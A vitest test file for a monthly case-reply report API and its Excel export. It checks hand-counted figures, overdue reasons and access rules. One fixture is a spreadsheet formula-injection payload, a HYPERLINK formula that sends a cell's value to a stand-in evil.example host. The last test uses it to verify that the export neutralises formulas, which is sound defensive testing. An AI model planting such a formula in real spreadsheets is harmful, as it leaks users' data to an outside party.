// The monthly 件件有回复 report (JSON and .xlsx) against a hand-counted fixture; the workbook is read back with exceljs.
import ExcelJS from 'exceljs';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { cases, groupMembers, groups, people } from '../../db/schema/index.js';
import { tokenFor } from '../helpers/case-fixtures.js';
import { ADMIN, auth, createTestApp, type TestApp } from '../helpers/test-app.js';

// asOf: Thursday 2026-12-10 10:00 Shanghai; the report is for November 2026.
const NOW = '2026-12-10T10:00:00+08:00';
const at = (local: string) => new Date(`${local}+08:00`);
const endOf = (day: string) => at(`${day}T23:59:59.999`);
const FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"点我")';

let t: TestApp;
let office: string;

type CaseInsert = typeof cases.$inferInsert;
function kase(
  no: number,
  {
    summary,
    ...c
  }: Partial<CaseInsert> & Pick<CaseInsert, 'receivedAt' | 'proceduralDueAt'> & { summary?: string },
): CaseInsert {
  return {
    caseNo: `GL-2026-${String(no).padStart(6, '0')}`,
    kind: 'dispute',
    intent: 'report_dispute',
    summaryEnc: t.app.services.registry.fieldCipher.encrypt(summary ?? `fixture ${no}`),
    substantiveDueAt: endOf('2027-02-28'),
    ...c,
  };
}

beforeAll(async () => {
  t = await createTestApp({ seed: false, now: NOW });
  const db = t.database.db;
  const [A, B] = await db
    .insert(groups)
    .values([
      { code: 'RA', name: '甲组' },
      { code: 'RB', name: '乙组' },
    ])
    .returning();
  const [leaderB] = await db
    .insert(people)
    .values({ code: 'RP1', name: '乙组长', role: 'prosecutor', wechatId: 'wxid_report_leader_b' })
    .returning();
  await db.insert(groupMembers).values({ groupId: B!.id, personId: leaderB!.id, role: 'leader' });
  const a = { groupId: A!.id };
  const b = { groupId: B!.id };
  await db.insert(cases).values([
    // c1 A: procedural on time; substantive not yet due.
    kase(1, {
      ...a,
      status: 'accepted',
      receivedAt: at('2026-11-02T09:00:00'),
      proceduralDueAt: endOf('2026-11-11'),
      proceduralRepliedAt: at('2026-11-05T10:00:00'),
    }),
    // c2 A clue: procedural replied 11-14 after its 11-12 due date → late by 2 days; substantive pending.
    kase(2, {
      ...a,
      kind: 'clue',
      category: 'fraud',
      status: 'in_progress',
      receivedAt: at('2026-11-03T10:00:00'),
      proceduralDueAt: endOf('2026-11-12'),
      proceduralRepliedAt: at('2026-11-14T10:00:00'),
    }),
    // c3 B: procedural due 11-29, never replied → overdue 11 days at 12-10 10:00; substantive pending.
    kase(3, {
      ...b,
      receivedAt: at('2026-11-20T15:00:00'),
      proceduralDueAt: endOf('2026-11-29'),
      substantiveDueAt: endOf('2027-02-20'),
    }),
    // c4 B: procedural due 12-15, not yet → pending on both clocks.
    kase(4, {
      ...b,
      kind: 'legal_question',
      intent: 'legal_question',
      receivedAt: at('2026-11-25T09:00:00'),
      proceduralDueAt: endOf('2026-12-15'),
    }),
    // c5 A: anonymous, no reply owed on either clock.
    kase(5, {
      ...a,
      anonymous: true,
      noReplyReason: 'anonymous',
      receivedAt: at('2026-11-10T09:00:00'),
      proceduralDueAt: endOf('2026-11-19'),
    }),
    // c6 A aid: both replies on time, closed, 满意.
    kase(6, {
      ...a,
      kind: 'aid_request',
      intent: 'request_aid',
      status: 'closed',
      receivedAt: at('2026-11-05T09:00:00'),
      proceduralDueAt: endOf('2026-11-14'),
      proceduralRepliedAt: at('2026-11-06T09:00:00'),
      substantiveDueAt: endOf('2027-02-05'),
      substantiveRepliedAt: at('2026-11-30T09:00:00'),
      closedAt: at('2026-12-01T09:00:00'),
      satisfaction: 'satisfied',
    }),
    // c7 B petition: not accepted on time (no substantive reply owed), 不满意.
    kase(7, {
      ...b,
      kind: 'petition',
      intent: 'petition',
      status: 'not_accepted',
      receivedAt: at('2026-11-08T09:00:00'),
      proceduralDueAt: endOf('2026-11-17'),
      proceduralRepliedAt: at('2026-11-09T09:00:00'),
      satisfaction: 'dissatisfied',
    }),
    // c8 A: received 00:30 on 11-01 (still October in UTC); procedural on time; substantive due 12-01, unanswered
    // → overdue 9 days. Its summary would be a formula in a spreadsheet.
    kase(8, {
      ...a,
      status: 'in_progress',
      summary: FORMULA,
      receivedAt: at('2026-11-01T00:30:00'),
      proceduralDueAt: endOf('2026-11-10'),
      proceduralRepliedAt: at('2026-11-04T09:00:00'),
      substantiveDueAt: endOf('2026-12-01'),
    }),
    // c9 B clue: procedural on time; substantive due 12-01 replied 12-05 → late by 4 days; 基本满意.
    kase(9, {
      ...b,
      kind: 'clue',
      category: 'drugs',
      status: 'resolved',
      receivedAt: at('2026-11-15T09:00:00'),
      proceduralDueAt: endOf('2026-11-24'),
      proceduralRepliedAt: at('2026-11-16T09:00:00'),
      substantiveDueAt: endOf('2026-12-01'),
      substantiveRepliedAt: at('2026-12-05T10:00:00'),
      satisfaction: 'basically_satisfied',
    }),
    // c10, c11: just outside November (23:30 on 10-31, 00:00 on 12-01), both overdue, neither counted.
    kase(10, { ...a, receivedAt: at('2026-10-31T23:30:00'), proceduralDueAt: endOf('2026-11-09') }),
    kase(11, { ...b, receivedAt: at('2026-12-01T00:00:00'), proceduralDueAt: endOf('2026-12-09') }),
  ]);
  office = await tokenFor(t, 'office');
}, 300_000);

afterAll(async () => {
  await t?.close();
});

const report = (headers: Record<string, string>, month = '2026-11') =>
  t.app.inject({ method: 'GET', url: `/v1/reports/replies?month=${month}`, headers });
const workbook = (headers: Record<string, string>, month = '2026-11') =>
  t.app.inject({ method: 'GET', url: `/v1/reports/replies.xlsx?month=${month}`, headers });

async function readBack(body: Buffer) {
  const wb = new ExcelJS.Workbook();
  await wb.xlsx.load(body as unknown as ArrayBuffer);
  return wb;
}

/** Column A label → column B value of a sheet (the 汇总 sheet's layout); the first occurrence after `after`. */
function figure(sheet: ExcelJS.Worksheet, section: string, label: string): unknown {
  let inSection = false;
  let found: unknown;
  sheet.eachRow((row) => {
    const key = row.getCell(1).value;
    if (key === section) inSection = true;
    else if (inSection && found === undefined && key === label) found = row.getCell(2).value;
  });
  return found;
}

describe('GET /v1/reports/replies (the 报表 page)', () => {
  it('counts the month’s cases on both clocks, as worked out by hand', async () => {
    const res = await report(auth(office));
    expect(res.statusCode).toBe(200);
    const r = res.json();
    expect(r).toMatchObject({ month: '2026-11', from: '2026-11-01', to: '2026-11-30' });
    expect(r.received).toEqual({
      total: 9,
      dispute: 4,
      legal_question: 1,
      aid_request: 1,
      clue: 2,
      petition: 1,
    });
    expect(r.procedural).toEqual({
      owed: 7,
      onTime: 5,
      late: 1,
      overdue: 1,
      pending: 1,
      notOwed: 1,
      onTimePct: 71.4,
    });
    expect(r.substantive).toEqual({
      owed: 3,
      onTime: 1,
      late: 1,
      overdue: 1,
      pending: 4,
      notOwed: 2,
      onTimePct: 33.3,
    });
    expect(r.satisfaction).toEqual({
      answered: 3,
      satisfied: 1,
      basicallySatisfied: 1,
      dissatisfied: 1,
      pct: 66.7,
    });
    expect(
      r.byGroup.map((g: { group: { code: string } | null }) => ({ ...g, group: g.group?.code })),
    ).toEqual([
      {
        group: 'RA',
        received: 5,
        procedural: { owed: 4, onTime: 3, onTimePct: 75 },
        substantive: { owed: 2, onTime: 1, onTimePct: 50 },
        overdue: 1,
      },
      {
        group: 'RB',
        received: 4,
        procedural: { owed: 3, onTime: 2, onTimePct: 66.7 },
        substantive: { owed: 1, onTime: 0, onTimePct: 0 },
        overdue: 1,
      },
    ]);
  });

  it('lists every case that replied late or is overdue, with the reason in words', async () => {
    const r = (await report(auth(office))).json();
    expect(r.overdue.total).toBe(4);
    const rows = r.overdue.items.map(
      (c: { caseNo: string; missed: { deadline: string; daysLate: number; repliedAt: string | null }[] }) => [
        c.caseNo,
        c.missed.map((m) => `${m.deadline}:${m.daysLate}:${m.repliedAt ? 'late' : 'open'}`),
      ],
    );
    expect(rows).toEqual([
      ['GL-2026-000008', ['substantive:9:open']],
      ['GL-2026-000002', ['procedural:2:late']],
      ['GL-2026-000009', ['substantive:4:late']],
      ['GL-2026-000003', ['procedural:11:open']],
    ]);
    expect(r.overdue.items[3].missed[0].reason).toBe(
      '程序性回复（7个工作日）逾期11天未答复（应于2026-11-29前）',
    );
    expect(r.overdue.items[1].missed[0].reason).toBe(
      '程序性回复（7个工作日）超期2天答复（应于2026-11-12前，2026-11-14答复）',
    );
  });

  it('shows a group leader only their own group', async () => {
    const leader = await tokenFor(t, 'group_leader', 'wxid_report_leader_b');
    const r = (await report(auth(leader))).json();
    expect(r.received.total).toBe(4);
    expect(r.byGroup.map((g: { group: { code: string } }) => g.group.code)).toEqual(['RB']);
    expect(r.overdue.items.map((c: { caseNo: string }) => c.caseNo)).toEqual([
      'GL-2026-000009',
      'GL-2026-000003',
    ]);
  });

  it('refuses a bad month with 400, prosecutors with 403 and strangers with 401', async () => {
    for (const month of ['2026-13', '2026-1', '2026-00', 'abc', '2026-11-01', '']) {
      expect((await report(auth(office), month)).statusCode, month).toBe(400);
      expect((await workbook(auth(office), month)).statusCode, month).toBe(400);
    }
    const prosecutor = await tokenFor(t, 'prosecutor', 'wxid_report_leader_b');
    expect((await report(auth(prosecutor))).statusCode).toBe(403);
    expect((await workbook(auth(prosecutor))).statusCode).toBe(403);
    expect((await workbook({})).statusCode).toBe(401);
  });
});

describe('GET /v1/reports/replies.xlsx (the workbook)', () => {
  it('is an Excel workbook whose figures match the hand count', async () => {
    const res = await workbook(auth(ADMIN));
    expect(res.statusCode).toBe(200);
    expect(res.headers['content-type']).toBe(
      'application/vnd.openxmlformats-officedocument.spreadsheetml.sheet',
    );
    expect(res.headers['content-disposition']).toContain('attachment;');
    expect(res.headers['content-disposition']).toContain('replies-2026-11.xlsx');
    const wb = await readBack(res.rawPayload);
    expect(wb.worksheets.map((s) => s.name)).toEqual(['汇总', '按检察组', '逾期明细']);
    const sum = wb.getWorksheet('汇总')!;
    expect(sum.getCell('A1').value).toBe('件件有回复月报 2026-11');
    expect(figure(sum, '收到', '合计')).toBe(9);
    expect(figure(sum, '收到', '线索')).toBe(2);
    expect(figure(sum, '程序性回复（7个工作日内）', '按期答复')).toBe(5);
    expect(figure(sum, '程序性回复（7个工作日内）', '超期答复')).toBe(1);
    expect(figure(sum, '程序性回复（7个工作日内）', '逾期未答复')).toBe(1);
    expect(figure(sum, '程序性回复（7个工作日内）', '按期答复率')).toBe('71.4%');
    expect(figure(sum, '实体性回复（3个月内）', '应答复')).toBe(3);
    expect(figure(sum, '实体性回复（3个月内）', '未到期')).toBe(4);
    expect(figure(sum, '逾期', '超期或逾期案件')).toBe(4);
    expect(figure(sum, '满意度回访', '满意率（含基本满意）')).toBe('66.7%');

    const groupsSheet = wb.getWorksheet('按检察组')!;
    expect(groupsSheet.getRow(2).values).toEqual([
      undefined,
      'RA',
      '甲组',
      5,
      4,
      3,
      '75.0%',
      2,
      1,
      '50.0%',
      1,
    ]);
    expect(groupsSheet.rowCount).toBe(3);

    const overdue = wb.getWorksheet('逾期明细')!;
    expect(overdue.rowCount).toBe(5);
    expect(overdue.getRow(3).getCell(1).value).toBe('GL-2026-000002');
    expect(overdue.getRow(3).getCell(3).value).toBe('线索·诈骗');
    expect(overdue.getRow(3).getCell(7).value).toBe(
      '程序性回复（7个工作日）超期2天答复（应于2026-11-12前，2026-11-14答复）',
    );
  });

  it('neutralises a case summary that starts with "=": no cell of the workbook starts a formula', async () => {
    const wb = await readBack((await workbook(auth(office))).rawPayload);
    const c8 = wb.getWorksheet('逾期明细')!.getRow(2);
    expect(c8.getCell(1).value).toBe('GL-2026-000008');
    expect(c8.getCell(6).value).toBe(`'${FORMULA}`);
    let cells = 0;
    for (const sheet of wb.worksheets)
      sheet.eachRow((row) =>
        row.eachCell((cell) => {
          cells++;
          expect(cell.type).not.toBe(ExcelJS.ValueType.Formula);
          if (typeof cell.value === 'string') expect(cell.value).not.toMatch(/^[=+\-@\t\r\n]/);
        }),
      );
    expect(cells).toBeGreaterThan(50);
  });
});
